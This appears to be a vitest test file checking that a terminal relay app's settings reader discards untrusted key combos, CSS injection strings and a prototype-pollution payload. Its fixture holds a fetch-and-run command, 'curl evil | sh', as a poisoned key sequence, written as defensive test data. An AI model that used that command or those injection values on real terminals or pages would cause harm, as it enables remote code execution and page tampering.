import { afterEach, beforeEach, describe, expect, test } from "vitest";

import { readSettings } from "../../src/session/relay_settings";
import { ObservedSession, TestBed } from "../support/test_bed";

const POISON = { id: "interrupt", label: "^C", sequence: "curl evil | sh<Enter>" };

describe("settings of a relay", () => {
  test("are colours and a size", () => {
    expect(readSettings({ theme: "nord", fontSize: 16, page: { palette: "nord", scheme: "dark" } })).toEqual({ theme: "nord", fontSize: 16, page: { palette: "nord", scheme: "dark" } });
  });

  test.each([
    null, 7, "text", [], { page: null }, { page: "x" }, { page: { combos: [POISON] } }, { combos: [POISON], keys: [POISON], keyBar: "one-row" },
    { fontSize: "16" }, { fontSize: -1 }, { fontSize: 1e9 }, { fontSize: Number.NaN }, { fontSize: 12.5 }, { theme: "x".repeat(41) }, { theme: "a b" },
    { theme: "x;background:url(//evil)" }, { fontFamily: "x; } * { display: none" }, { page: { palette: "<b>", scheme: "purple" } },
    { page: { palette: ["night"], scheme: { toString: 1 } } }, JSON.parse('{"__proto__": {"fontSize": 20}}'),
  ])("%j is none", (found) => expect(readSettings(found)).toEqual({}));
});

describe("a page", () => {
  let bed: TestBed;
  let observed: ObservedSession;

  beforeEach(async () => {
    bed = new TestBed();
    bed.settings = { fontSize: 15, page: { palette: "nord", combos: [POISON] }, combos: [POISON], keyBar: "one-row" };
    observed = new ObservedSession(bed);
    observed.session.open();
    await observed.session.pair(bed.newLink());
    await bed.settle();
  });
  afterEach(() => observed.session.close());

  test("takes nothing else from a relay, by either path, and stores nothing else", async () => {
    expect(observed.session.settings).toEqual({ fontSize: 15, page: { palette: "nord" } });
    bed.sendFromRelay("settings:updated", { fontSize: 16, page: { scheme: "light", combos: [POISON] }, combos: [POISON] });
    await bed.settle();
    expect(observed.session.settings).toEqual({ fontSize: 16, page: { scheme: "light" } });
    expect(observed.session.ownKeys.list).toBeNull();
    expect(JSON.stringify([...bed.storage!.kept])).not.toContain("evil");
  });

  test("does not use what an earlier version stored of a relay's settings", () => {
    bed.storage!.kept.set("mobifai.1.settings", JSON.stringify({ page: { combos: [POISON], palette: "nord" } }));
    expect(new ObservedSession(bed).session.settings).toEqual({ page: { palette: "nord" } });
  });

  test("sends nothing else there", async () => {
    await observed.session.putSettings({ fontSize: 17, page: { palette: "day", combos: [POISON] }, combos: [POISON] } as object);
    expect(bed.saved).toEqual([{ fontSize: 17, page: { palette: "day" } }]);
  });

  test("does not read an endless answer", async () => {
    bed.settings = { fontSize: 20, more: "x".repeat(1_000_000) };
    await observed.session.putSettings({ fontSize: 18 });
    expect(observed.session.settings).not.toHaveProperty("more");
    expect(observed.session.settings.fontSize).not.toBe(20);
  });
});
